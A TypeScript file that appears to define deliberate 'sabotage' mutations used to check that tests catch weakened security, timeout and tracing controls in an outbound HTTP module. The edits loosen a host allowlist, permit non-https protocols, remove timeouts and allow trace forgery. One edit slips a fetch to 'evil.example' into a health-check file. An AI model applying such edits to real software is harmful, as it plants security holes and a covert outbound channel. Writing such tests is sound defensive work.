import { sabotage, type Sabotage } from './sabotage.ts';

const file = 'src/http/outbound.ts';

export const outboundCalls: readonly Sabotage[] = [
  sabotage(
    'SEC-5',
    'any host is called',
    file,
    '![...hosts, host].includes(called)',
    'called.length === 0',
  ),
  sabotage(
    'SEC-5',
    'a host that begins like one of the list is called',
    file,
    '![...hosts, host].includes(called)',
    "![...hosts, host].some((one) => called.startsWith(one ?? ' '))",
  ),
  sabotage(
    'SEC-5',
    'hosts are called in clear',
    file,
    "protocol !== 'https:' || ",
    "protocol === 'data:' || ",
  ),
  sabotage(
    'SEC-5',
    'the caller decides whether to follow',
    file,
    "{ ...init, redirect: 'manual', signal }",
    "{ redirect: 'manual', ...init, signal }",
  ),
  sabotage(
    'SEC-5',
    'a second way out',
    'src/ops/health.ts',
    'const { id, tag, timestamp }',
    "if (c.env.APP_ENV === '') await fetch('https://evil.example');\n      const { id, tag, timestamp }",
  ),
  sabotage(
    'ERR-2',
    'a call has no end',
    file,
    'AbortSignal.timeout(patienceMs)',
    'AbortSignal.timeout(patienceMs + 3_600_000)',
  ),
  sabotage(
    'ERR-2',
    'the caller cannot give up',
    file,
    '...(init?.signal ? [init.signal] : [])',
    '...(init?.signal?.aborted === undefined ? [] : [])',
  ),
  sabotage(
    'OBS-3',
    'each call has a trace of its own',
    file,
    '`00-${requestId}-${call}-01`',
    "`00-${crypto.randomUUID().replaceAll('-', '')}-${call}-01`",
  ),
  sabotage(
    'OBS-3',
    'the caller can forge the trace',
    file,
    "request.headers.set('traceparent',",
    "if (!request.headers.has('traceparent')) request.headers.set('traceparent',",
  ),
  {
    control: 'ERR-2',
    name: 'a call whose answer has begun may take for ever',
    edits: [
      {
        file: 'src/http/outbound.ts',
        find: '    const timeout = AbortSignal.timeout(patienceMs);\n    const signal = AbortSignal.any([timeout,',
        replace:
          "    const timeout = AbortSignal.timeout(patienceMs);\n    const late = new AbortController();\n    const expire = () => late.abort();\n    timeout.addEventListener('abort', expire);\n    const signal = AbortSignal.any([late.signal,",
      },
      {
        file: 'src/http/outbound.ts',
        find: '    return fetch(request);',
        replace:
          "    return fetch(request).finally(() => timeout.removeEventListener('abort', expire));",
      },
    ],
  },
];
